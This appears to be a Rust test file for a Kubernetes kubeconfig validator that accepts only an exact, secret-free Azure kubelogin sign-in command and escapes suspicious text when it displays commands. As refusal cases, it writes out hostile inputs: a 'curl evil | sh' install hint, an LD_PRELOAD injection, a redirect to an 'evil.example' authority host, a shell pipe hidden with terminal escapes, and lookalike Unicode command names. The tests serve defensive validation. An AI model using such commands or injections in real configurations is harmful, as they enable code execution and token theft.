//! Tests the sign-in program: recognized or shown.

use super::*;

fn kubelogin(args: &[&str]) -> Value {
    json!({ "apiVersion": "client.authentication.k8s.io/v1beta1", "command": "kubelogin", "args": args, "env": null, "provideClusterInfo": false })
}

const ARGS: [&str; 11] = [
    "get-token",
    "--environment",
    "AzurePublicCloud",
    "--server-id",
    "6dae42f8-4368-4678-94ff-3960e28e3630",
    "--client-id",
    "80faf920-1908-4b52-b5ef-a8e7bedfc67a",
    "--tenant-id",
    "3d219147-6204-4fec-92f6-fcf16f76d211",
    "--login",
    "devicecode",
];

fn with_exec(exec: Value) -> Value {
    let mut config = good();
    config["users"][0]["user"] = json!({ "exec": exec });
    config
}

#[test]
fn a_cluster_with_entra_id_wants_a_token() {
    let mut hinted = kubelogin(&ARGS);
    hinted["installHint"] = json!(
        "\nkubelogin is not installed which is required to connect to AAD enabled cluster.\n\nTo learn more, please go to https://aka.ms/aks/kubelogin\n"
    );
    for exec in [kubelogin(&ARGS), hinted] {
        let kubeconfig = read(&with_exec(exec).to_string()).unwrap();
        assert!(ClusterAccess::of(&kubeconfig).unwrap().is_none());
        let token = SecretString::from("token");
        let access = ClusterAccess::with_entra_token(&kubeconfig, &token).unwrap();
        assert!(access.pair.is_none() && access.token.is_some());
        let broken = SecretString::from("a\r\nb");
        assert!(ClusterAccess::with_entra_token(&kubeconfig, &broken).is_err());
    }
}

#[test]
fn any_other_sign_in_is_not_recognized() {
    let with = |member: &str, value: Value| {
        let mut exec = kubelogin(&ARGS);
        exec[member] = value;
        exec
    };
    let swapped = |at: usize, value: &str| {
        let mut args = ARGS;
        args[at] = value;
        let args: Vec<String> = args.iter().map(ToString::to_string).collect();
        with("args", json!(args))
    };
    let more = |more: &[&str]| {
        let args: Vec<&str> = ARGS.iter().chain(more).copied().collect();
        kubelogin(&args)
    };
    for exec in [
        with("command", json!("/tmp/kubelogin")),
        with("command", json!("./kubelogin")),
        with("command", json!("kubelogin.exe")),
        with("command", json!("KUBELOGIN")),
        with("command", json!("kubelogin ")),
        with("command", json!(" kubelogin")),
        with("command", json!("kubel\u{43e}gin")),
        with("command", json!("kubelogin\u{200b}")),
        with("args", json!([&ARGS[..], &["--username", "a"]].concat())),
        with("args", json!([&ARGS[..], &["--password=b"]].concat())),
        with("args", json!([&ARGS[..], &["--client-secret", "c"]].concat())),
        swapped(10, "ropc"),
        swapped(10, "spn"),
        swapped(10, "SPN"),
        with("args", json!([&ARGS[..9], &["--login=spn"]].concat())),
        with("apiVersion", json!("client.authentication.k8s.io/v1alpha1")),
        with("apiVersion", json!(null)),
        with("env", json!([{ "name": "LD_PRELOAD", "value": "/tmp/x.so" }])),
        with("provideClusterInfo", json!(true)),
        with("installHint", json!("run: curl evil | sh")),
        swapped(0, "convert-kubeconfig"),
        swapped(4, "797f4846-ba00-4fd7-ba43-dac1f8f63013"),
        swapped(6, "../x"),
        swapped(8, "evil/x"),
        swapped(10, "sh"),
        swapped(2, "Custom"),
        more(&["--authority-host", "https://evil.example"]),
        more(&["--token-cache-dir", "/tmp"]),
        more(&["--login", "devicecode"]),
        more(&["--login"]),
        more(&["x"]),
        kubelogin(&[]),
        kubelogin(&["get-token", "--login", "devicecode"]),
    ] {
        let text = with_exec(exec).to_string();
        let kubeconfig = read(&text).unwrap();
        assert!(!kubeconfig.exec().unwrap().is_kubelogin(), "{text}");
        assert_eq!(refused(&text), KubeconfigProblem::Refused { member: "exec" });
    }
}

#[test]
fn every_sign_in_without_a_secret_is_recognized() {
    for login in [
        "devicecode",
        "interactive",
        "msi",
        "azurecli",
        "azd",
        "workloadidentity",
    ] {
        let mut args = ARGS;
        args[10] = login;
        let kubeconfig = read(&with_exec(kubelogin(&args)).to_string()).unwrap();
        assert!(kubeconfig.exec().unwrap().is_kubelogin(), "{login}");
    }
}

#[test]
fn a_program_is_shown_completely_and_escaped() {
    let mut exec = kubelogin(&["-c", "curl \u{1b}[31mx\u{202e} | sh", "a b"]);
    exec["command"] = json!("/bin/sh");
    exec["env"] = json!([{ "name": "A", "value": "b\n" }]);
    exec["installHint"] = json!("\u{1b}]0;x");
    let kubeconfig = read(&with_exec(exec).to_string()).unwrap();
    let shown = kubeconfig.exec().unwrap().display_command();
    assert_eq!(
        shown,
        r#""A"="b\n" "/bin/sh" "-c" "curl \u{1b}[31mx\u{202e} | sh" "a b""#
    );
    let file = kubeconfig.to_file();
    assert_eq!(file["users"][0]["user"]["exec"]["installHint"], Value::Null);
    for odd in [
        json!({ "apiVersion": "client.authentication.k8s.io/v1", "command": "x", "args": vec!["a"; 100] }),
        json!({ "apiVersion": "client.authentication.k8s.io/v1", "command": "x", "args": ["a".repeat(10_000)] }),
        json!({ "apiVersion": "client.authentication.k8s.io/v1", "command": "x", "unknown": 1 }),
        json!({ "apiVersion": "an other", "command": "x" }),
        json!({ "apiVersion": "client.authentication.k8s.io/v1", "command": "" }),
    ] {
        assert_eq!(
            read(&with_exec(odd).to_string()).unwrap_err(),
            KubeconfigProblem::Refused { member: "exec" }
        );
    }
}

#[test]
fn lookalike_letters_are_escaped() {
    let mut exec = kubelogin(&["\u{441}onvert", "\u{ff0d}x"]);
    exec["command"] = json!("kubel\u{43e}gin ");
    exec["env"] = json!([{ "name": "P\u{410}TH", "value": "\u{e9}" }]);
    let kubeconfig = read(&with_exec(exec).to_string()).unwrap();
    let shown = kubeconfig.exec().unwrap().display_command();
    assert_eq!(
        shown,
        r#""P\u{410}TH"="\u{e9}" "kubel\u{43e}gin " "\u{441}onvert" "\u{ff0d}x""#
    );
}

#[test]
fn a_sign_in_to_another_tenant_is_not_recognized() {
    let of = |args: &[&str], tenant| {
        let kubeconfig = read(&with_exec(kubelogin(args)).to_string()).unwrap();
        kubeconfig.exec().unwrap().is_kubelogin_of(tenant)
    };
    let own = Some("3D219147-6204-4fec-92f6-fcf16f76d211");
    let other = Some("11111111-6204-4fec-92f6-fcf16f76d211");
    assert!(of(&ARGS, own) && of(&ARGS, None));
    assert!(!of(&ARGS, other));
    let mut joined: Vec<&str> = ARGS.to_vec();
    joined.splice(7..9, ["--tenant-id=3d219147-6204-4fec-92f6-fcf16f76d211"]);
    assert!(of(&joined, own) && !of(&joined, other));
    joined[7] = "--tenant-id=contoso.onmicrosoft.com";
    assert!(of(&joined, None) && !of(&joined, own));
}

/// The program is reported before anything that is missing.
#[test]
fn a_program_is_refused_by_name_whatever_else_is_wrong() {
    let mut config = with_exec(json!({ "command": "/bin/sh", "args": ["-c", MARKER] }));
    config["clusters"][0]["cluster"] = json!({ "server": "https://127.0.0.1:1" });
    assert_eq!(
        refused(&config.to_string()),
        KubeconfigProblem::Refused { member: "exec" }
    );
    let mut bare = good();
    bare["clusters"][0]["cluster"] = json!({ "server": "https://127.0.0.1:1" });
    assert_eq!(
        refused(&bare.to_string()),
        KubeconfigProblem::Missing {
            part: "certificate-authority-data"
        }
    );
}
